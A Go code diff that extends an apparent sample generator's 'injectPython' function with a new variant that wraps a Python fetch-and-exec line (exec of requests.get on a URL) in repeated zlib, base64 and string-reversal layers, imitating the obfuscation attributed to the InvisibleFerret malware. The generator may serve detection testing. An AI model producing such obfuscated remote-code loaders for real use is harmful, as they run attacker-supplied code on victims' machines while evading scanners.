@@ -209,7 +209,25 @@ func (g *gen) injectPython(t Technique) error {
 	var imports, block string
 	switch t {
 	case PythonExec:
-		switch g.rng.IntN(4) {
+		switch g.rng.IntN(5) {
+		case 4:
+			// pyobfuscate's wrapping, as InvisibleFerret ships: the
+			// code zlib-compressed, base64-encoded, reversed, and the
+			// result wrapped the same way again, layer after layer
+			g.variant = "reversed-base64-zlib-layers"
+			code := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
+			for range 2 + g.rng.IntN(4) {
+				var z bytes.Buffer
+				zw := zlib.NewWriter(&z)
+				zw.Write([]byte(code))
+				zw.Close()
+				enc := []byte(base64.StdEncoding.EncodeToString(z.Bytes()))
+				for i, j := 0, len(enc)-1; i < j; i, j = i+1, j-1 {
+					enc[i], enc[j] = enc[j], enc[i]
+				}
+				code = fmt.Sprintf("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))", enc)
+			}
+			block = code + "\n"
 		case 3:
 			g.variant = "zlib-compile"
 			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
